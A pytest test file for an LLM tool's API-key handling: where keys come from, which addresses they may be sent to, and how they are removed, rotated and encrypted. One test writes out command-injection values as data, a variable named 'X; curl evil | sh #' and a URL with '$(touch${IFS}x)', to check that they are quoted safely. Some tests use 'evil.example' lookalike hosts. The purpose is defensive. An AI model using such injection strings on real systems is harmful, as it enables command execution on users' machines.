"""Keys: entered, listed, removed, found in their order, and sent to the address that they belong to and nowhere else."""

from __future__ import annotations

import os
import secrets
from collections.abc import Iterator
from pathlib import Path

import keyring
import pytest
from homes import Place, Workshop
from keyring.backends.fail import Keyring as NoKeyring
from keyrings import FOLDER, FileKeyring, LockedKeyring
from running import ask, texts

from rowsmith.app.doctor import doctor
from rowsmith.app.home import back_up, restore
from rowsmith.app.keys import Keys
from rowsmith.core.errors import Invalid, NotFound, Unavailable
from rowsmith.core.models import Model
from rowsmith.core.ports import Found, Paused
from rowsmith.llm.keys import key_of
from rowsmith.llm.providers import built_in

OWN = "https://api.openai.com"
AWAY = "https://models.example.com"
LOCAL = "http://127.0.0.1:8000"
NAME = "OPENAI_API_KEY"


@pytest.fixture(autouse=True)
def config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A configuration folder and a keyring of this test."""
    monkeypatch.setenv("ROWSMITH_CONFIG", str(tmp_path / "config"))
    monkeypatch.setenv(FOLDER, str(tmp_path / "keyring"))
    keyring.set_keyring(FileKeyring())
    yield tmp_path / "config"
    keyring.set_keyring(NoKeyring())


@pytest.fixture
def keys(where: Place) -> Iterator[Keys]:
    """The keys of a new home."""
    with where.lab() as lab:
        lab.project()
        yield lab.keys


def found(keys: Keys, url: str | None = None, project: str = "default", **settings: object) -> str | None:
    """The key that a model would be asked with."""
    key: Found | None = key_of(built_in("openai"), Model(**{"model": "openai/m", "base_url": url, **settings}), keys.of(project))
    return key.key.get_secret_value() if key else None


def refused(keys: Keys, url: str | None = None, **settings: object) -> str:
    """What is said when it is not asked with one."""
    with pytest.raises(Paused) as caught:
        found(keys, url, **settings)
    assert caught.value.reason == "key"
    return f"{caught.value.what} {caught.value.fix}"


# -- where they come from -------------------------------------------------------------------------------------------------------------------


def test_the_environment_comes_first_then_the_keyring_then_the_home(where: Place, keys: Keys) -> None:
    assert "enter the key once: `rowsmith keys add OPENAI_API_KEY`" in refused(keys)
    keys.add(NAME, "key-of-the-home")
    assert found(keys) == "key-of-the-home"
    keys.add(NAME, "key-of-the-keyring", keyring=True)
    assert found(keys) == "key-of-the-keyring"
    where.environ[NAME] = "key-of-the-environment"
    assert found(keys) == "key-of-the-environment"
    assert [(facts.where, facts.ends_with) for facts in keys.list()] == [("environment", "ment"), ("keyring", "ring"), ("store", "home")]


def test_a_project_has_keys_of_its_own(where: Place, keys: Keys) -> None:
    with where.lab() as lab:
        lab.projects.create("theirs")
        keys.add(NAME, "key-of-all")
        keys.add(NAME, "key-of-theirs", project="theirs")
        assert (found(keys), found(keys, project="theirs")) == ("key-of-all", "key-of-theirs")
        with pytest.raises(NotFound, match="nobody"):
            keys.add(NAME, "key-of-nobody", project="nobody")
        with pytest.raises(Paused, match="nobody"):
            keys.of("nobody").find(NAME, OWN, own=True)
        lab.projects.delete("theirs")
        assert [facts.project for facts in keys.list()] == [None]


def test_the_keyring_is_only_asked_for_what_was_put_there(keys: Keys) -> None:
    keyring.set_keyring(LockedKeyring())
    keys.add(NAME, "key-of-the-home")
    assert found(keys) == "key-of-the-home"


def test_a_keyring_that_fails_pauses_and_says_so(keys: Keys) -> None:
    keys.add(NAME, "key-of-the-keyring", keyring=True)
    keyring.set_keyring(LockedKeyring())
    said = refused(keys)
    assert "Failed to unlock the collection" in said
    assert "`rowsmith keys add OPENAI_API_KEY`" in said


def test_without_a_home_the_environment_and_the_keyring_are_there() -> None:
    keys = Keys({"OPENAI_API_KEY": "key-of-the-environment"})
    assert found(keys) == "key-of-the-environment"
    keys = Keys({})
    assert "no key of that name is kept" in refused(keys)
    keys.add(NAME, "key-of-the-keyring", keyring=True)
    assert found(keys) == "key-of-the-keyring"
    with pytest.raises(NotFound, match="no home"):
        keys.add(NAME, "key-of-the-home")


# -- where they go --------------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("in_keyring", [False, True])
def test_a_kept_key_is_sent_to_the_address_that_it_was_entered_for_alone(keys: Keys, in_keyring: bool) -> None:
    keys.add(NAME, "key-for-the-own", keyring=in_keyring)
    said = refused(keys, f"{AWAY}/v1")
    assert f"was entered for {OWN}, and it is not sent to {AWAY}." in said
    assert f"`rowsmith keys add OPENAI_API_KEY --url {AWAY}`" in said
    keys.add(NAME, "key-for-another", url=f"{AWAY}/v1", keyring=in_keyring)
    assert (found(keys), found(keys, f"{AWAY}/v2")) == ("key-for-the-own", "key-for-another")
    for other in ("http://models.example.com", f"{AWAY}:8443", f"{AWAY}.evil.example", "https://evil.example"):
        assert "is not sent to" in refused(keys, other)
    assert found(keys, LOCAL) is None, "a local server is asked without a key that belongs elsewhere, and without ceremony"
    keys.add(NAME, "key-for-here", url=LOCAL, keyring=in_keyring)
    assert (found(keys, LOCAL), found(keys, "http://127.0.0.1:8001")) == ("key-for-here", None)


@pytest.mark.parametrize("name", [NAME, "GITHUB_TOKEN"])
def test_a_variable_goes_to_the_provider_to_this_machine_and_where_it_is_allowed(where: Place, keys: Keys, name: str) -> None:
    where.environ[name] = "key-of-the-environment"
    named = {} if name == NAME else {"api_key_env": name}
    assert found(keys, **named) == found(keys, LOCAL, **named) == found(keys, "http://localhost:1/v1", **named) == "key-of-the-environment"
    said = refused(keys, f"{AWAY}/v1", **named)
    assert f"The environment variable {name} is not sent to {AWAY}" in said
    assert f"`rowsmith keys allow {name} {AWAY}`" in said
    assert "key-of" not in said
    assert keys.allow(name, f"{AWAY}/v1") == AWAY
    assert keys.allowed() == {name: [AWAY]}
    assert found(keys, f"{AWAY}/v1", **named) == "key-of-the-environment"
    assert "is not sent to" in refused(keys, f"{AWAY}:444", **named)
    where.environ["OTHER"] = "key-of-other"
    assert "OTHER is not sent to" in refused(keys, f"{AWAY}/v1", api_key_env="OTHER"), "it was allowed for that variable"
    keys.disallow(name, AWAY)
    assert "is not sent to" in refused(keys, f"{AWAY}/v1", **named)
    with pytest.raises(NotFound):
        keys.disallow(name, AWAY)


def test_a_kept_key_serves_where_the_variable_may_not_go(where: Place, keys: Keys) -> None:
    where.environ[NAME] = "key-of-the-environment"
    keys.add(NAME, "key-for-another", url=AWAY)
    assert (found(keys), found(keys, AWAY)) == ("key-of-the-environment", "key-for-another")


def test_a_model_may_be_asked_without_a_key(where: Place, keys: Keys) -> None:
    where.environ[NAME] = "key-of-the-environment"
    keys.add(NAME, "key-for-another", url=AWAY)
    assert found(keys, AWAY, api_key_env="") is found(keys, "http://gpu:8000", api_key_env="") is None


@pytest.mark.parametrize("url", [None, LOCAL])
def test_a_recipe_cannot_name_a_setting_of_ours(where: Place, keys: Keys, url: str | None) -> None:
    where.environ["ROWSMITH_KEK"] = secrets.token_urlsafe(32)
    said = refused(keys, url, api_key_env="ROWSMITH_KEK")
    assert "ROWSMITH_KEK is a setting of Rowsmith's own" in said
    assert where.environ["ROWSMITH_KEK"] not in said


def test_an_altered_row_is_told(where: Place, keys: Keys) -> None:
    keys.add(NAME, "key-of-the-home")
    where.change("UPDATE secret SET address = :address", address=AWAY)
    assert [facts.readable for facts in keys.list()] == [False]
    assert f"--url {AWAY}" in keys.problems()[0]
    assert "altered, or copied" in refused(keys, AWAY)


def test_a_recipe_cannot_put_words_into_the_commands_that_are_shown(where: Place, keys: Keys) -> None:
    name = "X; curl evil | sh #"
    where.environ[name] = "key-of-the-environment"
    said = refused(keys, "http://$(touch${IFS}x).evil.example/v1", api_key_env=name)
    assert "rowsmith keys allow 'X; curl evil | sh #' 'http://$(touch${ifs}x).evil.example'" in said


def test_a_run_pauses_before_anything_is_sent(where: Place) -> None:
    where.environ[NAME] = "key-of-the-environment"
    with Workshop(where) as shop:
        with pytest.raises(Invalid, match=f"rowsmith keys allow OPENAI_API_KEY {AWAY}"):
            shop.run(texts("a"), ask(), top={"models": {"writer": {"model": "openai/m", "base_url": f"{AWAY}/v1"}}})
        shop.server.change(api_key="key-for-here")
        paused = shop.run(texts("a"), ask())
        assert (paused.state, paused.kept) == ("paused", 0)
        assert "Put a valid key into the environment variable OPENAI_API_KEY" in str(paused.reason)
        del where.environ[NAME]
        paused = shop.run(texts("a"), ask())
        assert "asks for a key" in str(paused.reason)
        assert f"`rowsmith keys add OPENAI_API_KEY --url {shop.server.url.removesuffix('/v1')}`" in str(paused.reason)
        shop.lab.keys.add(NAME, "a-wrong-key", url=shop.server.url)
        assert "Enter a valid key: `rowsmith keys add OPENAI_API_KEY --url" in str(shop.run(texts("a"), ask()).reason)
        shop.lab.keys.add(NAME, "key-for-here", url=shop.server.url)
        assert shop.run(texts("a"), ask()).kept == 1


# -- entering, listing, removing ------------------------------------------------------------------------------------------------------------


def test_what_is_told_of_a_key(where: Place, keys: Keys) -> None:
    added = keys.add("openai", " sk-0123456789abcdef\n")
    assert (added.name, added.where, added.address, added.ends_with, added.readable) == (NAME, "store", OWN, "cdef", True)
    assert added.added_by
    assert added.added_at
    where.environ[NAME] = "sk-0123456789abcdef"
    environment, store = keys.list()
    assert environment.fingerprint == store.fingerprint, "the same key, wherever it is"
    assert keys.add(NAME, "none", url=LOCAL).ends_with == "", "a short key shows nothing"
    assert "0123" not in repr(keys.list()) + repr(keys.of("default")) + repr(keys)


@pytest.mark.parametrize(
    ("name", "key", "more", "words"),
    [
        (NAME, "", {}, "holds nothing"),
        (NAME, "sk one two", {}, "holds spaces"),
        (NAME, "schlüssel-1", {}, "holds spaces or characters"),
        (NAME, "x" * 9000, {}, "more characters"),
        *((NAME, value, {}, "a reference to a key") for value in ("$OPENAI_API_KEY", "${X}", "%X%", "os.environ/X", "env:X", "file:///k", "@k")),
        ("sk-canary-1", "k" * 20, {}, "neither the name of an environment variable nor a provider"),
        ("MINE", "k" * 20, {}, "No provider with an address of its own"),
        (NAME, "k" * 20, {"url": "nowhere"}, "no address of a server"),
        (NAME, "k" * 20, {"keyring": True, "project": "default"}, "whatever the project"),
    ],
)
def test_what_cannot_be_a_key_is_refused_and_not_repeated(keys: Keys, name: str, key: str, more: dict[str, object], words: str) -> None:
    with pytest.raises(Invalid, match=words) as caught:
        keys.add(name, key, **more)  # type: ignore[arg-type]
    assert not key or key not in str(caught.value)
    assert "canary" not in str(caught.value)
    assert keys.list() == []


def test_keys_are_removed_where_they_are(where: Place, keys: Keys) -> None:
    where.environ[NAME] = "key-of-the-environment"
    keys.add(NAME, "key-of-the-keyring", keyring=True)
    for url in (None, AWAY):
        keys.add(NAME, "key-of-the-home", url=url)
    assert [(facts.where, facts.address) for facts in keys.remove(NAME, url=AWAY)] == [("store", AWAY)]
    assert [(facts.where, facts.address) for facts in keys.remove(NAME)] == [("keyring", OWN), ("store", OWN)]
    assert [facts.where for facts in keys.list()] == ["environment"]
    with pytest.raises(NotFound, match="No such key"):
        keys.remove(NAME)
    assert list((where.folder / "keyring").iterdir()) == []


def test_what_the_home_kept_is_removed_even_when_the_keyring_fails(keys: Keys) -> None:
    keys.add(NAME, "key-of-the-keyring", keyring=True)
    keys.add(NAME, "key-of-the-home")
    keyring.set_keyring(LockedKeyring())
    with pytest.raises(Unavailable):
        keys.remove(NAME)
    assert [facts.where for facts in keys.list()] == ["keyring"]


# -- the key-encrypting key -----------------------------------------------------------------------------------------------------------------


def test_a_rotation_in_the_file(where: Place, keys: Keys, config: Path) -> None:
    keys.add(NAME, "key-of-the-home")
    before = (config / "kek").read_text(encoding="ascii").split()
    done = keys.rotate()
    after = (config / "kek").read_text(encoding="ascii").split()
    assert (done.changed, done.locked, after[1:]) == (1, [], before)
    (config / "kek").write_text(after[0], encoding="ascii")
    assert found(keys) == "key-of-the-home"


def test_a_rotation_in_the_environment(where: Place, keys: Keys, config: Path) -> None:
    old, new = secrets.token_urlsafe(32), secrets.token_urlsafe(32)
    where.environ["ROWSMITH_KEK"] = old
    keys.add(NAME, "key-of-the-home")
    assert not (config / "kek").exists()
    assert keys.rotate().changed == 0
    where.environ["ROWSMITH_KEK"] = f"{new},{old}"
    assert keys.rotate().changed == 1
    where.environ["ROWSMITH_KEK"] = new
    assert found(keys) == "key-of-the-home"


def test_a_wrong_key_encrypting_key_is_refused_and_everything_else_stays_readable(where: Place) -> None:
    where.environ["ROWSMITH_KEK"] = secrets.token_urlsafe(32)
    with Workshop(where) as shop:
        shop.lab.keys.add(NAME, "key-for-here", url=shop.server.url)
        assert shop.run(texts("a"), ask(forward=["text"])).kept == 1
        where.environ["ROWSMITH_KEK"] = secrets.token_urlsafe(32)
        with pytest.raises(Invalid, match="which is not here") as caught:
            shop.run(texts("b"), ask())
        assert "rowsmith keys add" in str(caught.value)
        (facts,) = shop.lab.keys.list()
        assert (facts.readable, facts.ends_with) == (False, "here")
        assert facts.enter_again in doctor("home", shop.lab, offline=True)["problems"][0]
        assert [row.data["text"] for row in shop.lab.project().datasets.rows("t")] == ["a"]
        assert shop.lab.keys.rotate().locked == [facts]
        shop.lab.keys.add(NAME, "key-for-here", url=shop.server.url)
        assert shop.run(texts("b"), ask()).kept == 1
        assert doctor("home", shop.lab, offline=True)["problems"] == []


@pytest.mark.parametrize("word", ["password", "A" * 40])
def test_what_is_no_key_encrypting_key_is_told(where: Place, keys: Keys, word: str) -> None:
    keys.add(NAME, "key-of-the-home")
    where.environ["ROWSMITH_KEK"] = word
    assert "ROWSMITH_KEK holds something" in refused(keys)
    (problem,) = keys.problems()
    assert word not in problem + refused(keys)


def test_others_may_not_read_the_key_encrypting_key(keys: Keys, config: Path) -> None:
    keys.add(NAME, "key-of-the-home")
    os.chmod(config / "kek", 0o644)
    assert "chmod 600" in refused(keys)
    assert "chmod 600" in keys.problems()[0]


def test_the_key_encrypting_key_never_lies_in_the_home(where: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ROWSMITH_CONFIG", str(where.folder / "home" / "config"))
    with where.lab() as lab:
        if where.database:
            return
        with pytest.raises(Invalid, match="lies within the home"):
            lab.keys.add(NAME, "key-of-the-home")
    assert not list(where.folder.rglob("kek"))


def test_a_restored_home_says_which_keys_have_to_be_entered_again(where: Place, keys: Keys, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    keys.add(NAME, "key-of-the-home")
    keys.add(NAME, "key-for-another", url=AWAY)
    with where.lab() as lab:
        back_up(lab, tmp_path / "b")
    assert restore(tmp_path / "b", str(tmp_path / "here")).to_do == []
    monkeypatch.setenv("ROWSMITH_CONFIG", str(tmp_path / "elsewhere"))
    to_do = restore(tmp_path / "b", str(tmp_path / "there")).to_do
    assert [f"`rowsmith keys add OPENAI_API_KEY --url {address}`" in said for said, address in zip(to_do, (OWN, AWAY), strict=True)] == [True, True]
